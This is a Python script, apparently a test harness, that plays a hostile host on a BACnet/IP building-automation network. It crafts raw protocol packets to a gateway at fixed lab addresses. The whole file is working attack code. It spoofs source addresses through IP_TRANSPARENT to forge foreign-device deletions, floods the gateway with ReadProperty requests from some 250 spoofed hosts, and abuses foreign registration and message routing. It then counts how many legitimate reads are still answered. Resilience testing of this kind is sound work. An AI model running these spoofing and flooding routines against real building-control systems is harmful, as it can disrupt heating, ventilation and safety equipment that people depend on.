"""What a hostile neighbour sends, by the standard library alone. Each word is a call, and prints one line.

    host.py read TO                    reads the fan by this address of the gateway
    host.py register MANAGER           registers as a foreign device
    host.py forge MANAGER ADDRESS      ends the registration of this address, which the host doesn't have, in its name
    host.py pass ADDRESS PORT          asks the gateway for a message to this station of network 2
    host.py hear PORT                  waits for a datagram at this UDP port
    host.py say ADDRESS PORT           sends a datagram there
    host.py flood SECONDS RATE         denied reads from absent hosts of the subnet
    host.py reads NUMBER               so many reads, ten a second, and how many are answered
"""

import socket
import sys
import time

OURS = 47808
GATEWAY = ("10.1.0.2", OURS)


def open_line(host="", port=OURS, wait=1.0, absent=False):
    line = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    line.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    line.setsockopt(socket.SOL_SOCKET, socket.SO_BROADCAST, 1)
    if absent:
        # An address that this host doesn't have, so that nobody answers for it.
        line.setsockopt(socket.SOL_IP, getattr(socket, "IP_TRANSPARENT", 19), 1)
    line.bind((host, port))
    line.settimeout(wait)
    return line


def request(instance, invoke):
    """A ReadProperty of Present_Value of a Binary Value of the gateway's device."""
    return bytes.fromhex(f"810A0016012400640101FF0005{invoke:02X}0C0C{5 << 22 | instance:08X}1955")


def heard(line):
    try:
        return line.recvfrom(1508)[0]
    except socket.timeout:
        return None


def flood(seconds, rate):
    lines = [open_line(f"10.1.0.{host}", absent=True) for host in range(4, 255) if host != 5]
    start = time.monotonic()
    for number in range(seconds * rate):
        lines[number % len(lines)].sendto(request(2, 1), GATEWAY)
        ahead = start + number / rate - time.monotonic()
        if ahead > 0.002:
            time.sleep(ahead)
    print(f"{seconds * rate} denied reads in {time.monotonic() - start:.1f} seconds")


def reads(number):
    answered = 0
    with open_line("10.1.0.5", wait=0.1) as line:
        for invoke in range(1, number + 1):
            end = time.monotonic() + 0.1
            line.sendto(request(1, invoke), GATEWAY)
            while (left := end - time.monotonic()) > 0:
                line.settimeout(left)
                answer = heard(line)
                if answer and answer[10] >> 4 == 3 and answer[11] == invoke:
                    answered += 1
                    break
            time.sleep(max(0, end - time.monotonic()))
    print(f"{answered} of {number} reads are answered")


def main():
    word, *rest = sys.argv[1:]
    if word == "flood":
        return flood(int(rest[0]), int(rest[1]))
    if word == "reads":
        return reads(int(rest[0]))
    if word == "forge":
        with open_line(rest[1], absent=True) as line:
            line.sendto(bytes.fromhex("810500060000"), (rest[0], OURS))
        return print("sent")
    with open_line(port=int(rest[0]) if word == "hear" else OURS, wait=2.0 if word == "hear" else 1.0) as line:
        if word == "read":
            line.sendto(request(1, 7), (rest[0], OURS))
            # A broadcast comes back to its sender too.
            while (answer := heard(line)) and answer[10] >> 4 != 3:
                pass
            print("answered" if answer else "no answer")
        elif word == "register":
            line.sendto(bytes.fromhex("81050006003C"), (rest[0], OURS))
            print("granted" if heard(line) == bytes.fromhex("810000060000") else "no answer")
        elif word == "pass":
            station = socket.inet_aton(rest[0]).hex() + f"{int(rest[1]):04x}"
            message = bytes.fromhex(f"0120000206{station}FF1008")
            line.sendto(b"\x81\x0a" + (len(message) + 4).to_bytes(2, "big") + message, GATEWAY)
            print("asked")
        elif word == "hear":
            print("heard" if heard(line) else "nothing")
        elif word == "say":
            line.sendto(b"any", (rest[0], int(rest[1])))
            print("said")


main()
